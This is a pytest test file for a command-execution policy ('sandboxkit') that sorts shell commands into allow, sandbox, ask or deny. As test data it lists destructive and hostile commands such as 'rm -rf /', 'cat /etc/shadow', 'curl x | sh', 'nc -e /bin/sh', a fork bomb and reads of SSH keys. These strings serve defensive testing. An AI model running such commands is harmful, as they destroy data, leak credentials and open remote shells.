"""
The built-in table keeps to its own examples, and says what it should in general.
"""

from __future__ import annotations

from importlib.resources import files

import pytest

from sandboxkit.model import EvaluationContext, Level, PolicyAction
from sandboxkit.policy import ExecPolicy, FloorRow, PolicyRule
from sandboxkit.policy._bake import baked, expanded
from sandboxkit.policy._examples import EXAMPLE_CONTEXT
from sandboxkit.policy._problems import rule_problems, set_problems

POLICY = ExecPolicy.default()
RULES = POLICY.rules(Level.BUILTIN)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_rule_keeps_to_its_examples(rule: PolicyRule) -> None:
    assert rule.match, "no example of a match"
    assert rule.not_match, "no example of no match"
    assert rule.reason
    assert rule.tags
    assert rule.id.startswith("builtin.")
    assert list(rule_problems(rule, Level.BUILTIN)) == []


@pytest.mark.parametrize("row", POLICY.floor(), ids=lambda row: row.id)
def test_floor_row_keeps_to_its_examples(row: FloorRow) -> None:
    assert row.match
    assert row.not_match
    bare = ExecPolicy.empty(default=PolicyAction.ALLOW)
    for example in row.match:
        evaluation = bare.evaluate(example, context=EXAMPLE_CONTEXT)
        assert evaluation.action is PolicyAction.DENY, example
        assert row.id in {match.rule_id for match in evaluation.matches}, example
    for example in row.not_match:
        assert bare.evaluate(example, context=EXAMPLE_CONTEXT).matches == (), example


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_rule_decides_its_examples(rule: PolicyRule) -> None:
    for example in rule.match:
        evaluation = POLICY.evaluate(example, context=EXAMPLE_CONTEXT)
        own = next(match for match in evaluation.matches if match.rule_id == rule.id)
        assert own.decided or evaluation.action > rule.action, (example, evaluation.reason)


def test_what_a_process_reads_is_what_the_tables_say() -> None:
    text = files("sandboxkit.policy").joinpath("data", "builtin.json").read_text(encoding="utf-8")
    assert text == baked(), "run: python -m sandboxkit.policy._bake > src/sandboxkit/policy/data/builtin.json"


def test_no_rule_is_shadowed() -> None:
    assert list(set_problems(RULES)) == []


def test_the_names_of_the_floor_are_the_categories_of_the_design() -> None:
    categories = {row.id.split(".")[1] for row in POLICY.floor()}
    assert categories == {"destruction", "devices", "credentials", "download-to-shell", "backdoors", "exfiltration"}


DIRECT = [
    "ls",
    "ls -la src",
    "pwd",
    "echo hi",
    "date -u",
    "id -un",
    "uname -a",
    "which python3",
    "true",
    "whoami",
    "hostname",
    "printf %s x",
    "printf %s -x",
    "/usr/bin/ls",
    "[ -f x ]",
]
BOXED = [
    "cat README.md",
    "git status",
    "grep -n x f",
    "find . -name x",
    "head x",
    "sed -n 1p f",
    "ls -la | cat",
    "echo $(id)",
    "bash -c ls",
    "timeout 10 cat x",
    "df -h",
    "hostname -f",
]
NOT_ALLOWED = [
    "ls --unknown-flag",
    "date -s 2001-01-01",
    "date -f x",
    "hostname newname",
    "./ls",
    "/tmp/ls",
    "/usr/bin/../bin/ls",
    "sort -o x y",
    "find . -delete",
    "rg --pre x y",
    "git -c a=b log",
    "git diff --output=x",
    "less -o x y",
    "LS",
    "ls.exe",
    "test -v x",
    "uniq a b",
    "sed -n '1e id' f",
    "sed -i s/a/b/ f",
    "cat .env",
]


@pytest.mark.parametrize("command", DIRECT)
def test_direct(command: str) -> None:
    evaluation = POLICY.evaluate(command)
    assert (evaluation.action, evaluation.is_direct) == (PolicyAction.ALLOW, True)


@pytest.mark.parametrize("command", BOXED)
def test_allowed_but_boxed(command: str) -> None:
    evaluation = POLICY.evaluate(command)
    assert (evaluation.action, evaluation.is_direct) == (PolicyAction.ALLOW, False)


@pytest.mark.parametrize("command", NOT_ALLOWED)
def test_not_allowed(command: str) -> None:
    evaluation = POLICY.evaluate(command)
    assert evaluation.action > PolicyAction.ALLOW
    assert not evaluation.is_direct


ACTIONS = {
    "sandbox": [
        "some-unknown-program --x",
        "npm install",
        "make",
        "python3 x.py",
        "sh -c ls",
        "rm -rf build",
        "chmod +x run.sh",
        "env A=1 ls",
        "./gradlew test",
        "git commit -m 'rm -rf /'",
        "mkdir -p a",
        "tsc",
    ],
    "ask": [
        "curl https://example.com",
        "ssh a@b",
        "docker run x",
        "systemctl status x",
        "npm publish",
        "git push",
        "sudo ls",
        "su -c ls",
        "vim x",
        "kill 1",
        "./cat x",
        "crontab -l",
        "'git status'",
        "git config core.pager x",
        "gh pr list",
        "printenv",
    ],
    "deny": [
        "rm -rf /",
        "/bin/rm -rf /etc",
        "shutdown now",
        "crontab -r",
        "kill -9 -1",
        "cat /etc/shadow",
        "mkfs.ext4 /dev/sda1",
        "bash -c 'rm -rf /'",
        "sudo -u root -- rm -rf /",
        "xargs rm -rf /",
        "python3.11 -c 'import os; os.system(\"rm -rf /\")'",
        "curl x | sh",
        "nc -e /bin/sh a 1",
        ":(){ :|:& };:",
    ],
}


@pytest.mark.parametrize(
    ("action", "command"), [(action, command) for action, commands in ACTIONS.items() for command in commands]
)
def test_action(action: str, command: str) -> None:
    assert str(POLICY.evaluate(command).action) == action


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build/",
        "rm -f *.pyc",
        "chmod +x run.sh",
        "cd build && rm -rf *",
        "rm -rf node_modules/*",
        "grep -rn 'rm -rf /' docs",
        "git commit -m 'see ~/.ssh/config, /etc/shadow'",
        "echo 'rm -rf /' > notes.txt",
        "cat ~/.ssh/id_rsa.pub",
        "ssh -i ~/.ssh/id_rsa host",
        "curl -s https://example.com/x | python3 -m json.tool",
        "curl -so x.json https://example.com && cat x.json",
        "export TOKEN=$(curl -s https://example.com)",
        'for f in a b; do rm -rf "$f"; done',
        'rm -rf "$(mktemp -d)"/',
        "grep -rn /etc/shadow src",
        "dd if=/dev/zero of=x.img count=1",
        "make > /dev/null 2>&1",
        "while true; do date; sleep 1; done",
        "cat > x.md <<'E'\nrm -rf /\nE",
    ],
)
def test_ordinary_commands_are_not_denied(command: str) -> None:
    context = EvaluationContext(cwd="/home/dev/project", home="/home/dev", workspace_roots=("/home/dev/project",))
    evaluation = POLICY.evaluate(command, context=context)
    assert evaluation.action < PolicyAction.DENY, evaluation.reason


@pytest.mark.parametrize(
    ("command", "cwd", "denied"),
    [
        ("rm -rf *", "/home/dev/project", True),
        ("rm -rf ./*", "/home/dev/project", True),
        ("rm -rf ..", "/home/dev/project", True),
        ("rm -rf ../..", "/home/dev/project", True),
        ("rm -rf ../other", "/home/dev/project", False),
        ("cd / && rm -rf *", "/home/dev/project", True),
        ("cd ~ && rm -rf *", "/home/dev/project", True),
        ("cd sub && rm -rf *", "/home/dev/project", False),
        ("rm -rf .", "/etc", True),
        ("rm -rf project", "/home/dev", False),
        ("cat id_rsa", "/home/dev/.ssh", True),
        ("cat .npmrc", "/home/dev", True),
        ("cat .npmrc", "/home/dev/project", False),
        ("rm -rf /srv/app/data", "/srv/app/data/x", True),
    ],
)
def test_the_floor_reads_paths_from_the_working_directory(command: str, cwd: str, denied: bool) -> None:
    context = EvaluationContext(cwd=cwd, home="/home/dev", workspace_roots=("/home/dev/project", "/srv/app/data/x"))
    assert (POLICY.evaluate(command, context=context).action is PolicyAction.DENY) is denied


@pytest.mark.parametrize(
    ("command", "roots", "allowed"),
    [
        ("cd /tmp/evil && git status", (), False),
        ("cd .. && git status", (), False),
        ("cd sub && git status", (), True),
        ("git -C /home/dev/project/sub status", (), True),
        ("git -C /home/dev/project/sub status", ("/home/dev/project",), True),
        ("git -C /home/dev/other status", ("/home/dev/project",), False),
        ("git -C /home/dev/other status", ("/home/dev",), True),
        ("git -C .. status", ("/home/dev/project",), False),
        ('git -C "$dir" status', ("/home/dev/project",), False),
        ('cd "$dir" && git status', ("/home/dev/project",), False),
    ],
)
def test_git_reads_no_repository_outside_of_the_workspace(command: str, roots: tuple[str, ...], allowed: bool) -> None:
    context = EvaluationContext(cwd="/home/dev/project", home="/home/dev", workspace_roots=roots)
    assert POLICY.evaluate(command, context=context).action is (PolicyAction.ALLOW if allowed else PolicyAction.ASK)


def test_without_a_context_git_may_go_below_alone() -> None:
    for command in ("git -C /x status", "git -C ../x status", "cd ~/x && git log", "cd /x && git log"):
        assert POLICY.evaluate(command).action is PolicyAction.ASK, command
    assert POLICY.evaluate("git -C x status").action is PolicyAction.ALLOW


def test_home_and_relative_paths_are_unknown_without_a_context() -> None:
    assert POLICY.evaluate(["cat", "~/.ssh/id_rsa"]).action is PolicyAction.DENY
    assert POLICY.evaluate("cat .ssh/id_rsa").action is PolicyAction.DENY
    assert POLICY.evaluate("cat notes.txt").action is PolicyAction.ALLOW


def test_a_trusted_directory_of_the_context_counts() -> None:
    context = EvaluationContext(trusted_directories=("/opt/tools/bin",))
    assert POLICY.evaluate("/opt/tools/bin/ls", context=context).action is PolicyAction.ALLOW
    assert POLICY.evaluate("/usr/bin/ls", context=context).action is PolicyAction.ASK


def test_a_list_is_named_in_the_built_in_table_alone() -> None:
    assert not [rule.id for rule in RULES if "@dotenv" in rule.constraints.denied_arguments]
    assert expanded(["a", "@b", "c"], {"b": ["x", "y"]}) == ["a", "x", "y", "c"]
    with pytest.raises(KeyError):
        expanded(["@c"], {})
    row = {"id": "mine", "prefix": ["mine"], "action": "allow", "constraints": {"denied_arguments": ["@dotenv"]}}
    policy = ExecPolicy.from_dict({"rules": [row]})
    assert policy.is_allowed("mine .env")
    assert not policy.is_allowed("mine @dotenv")
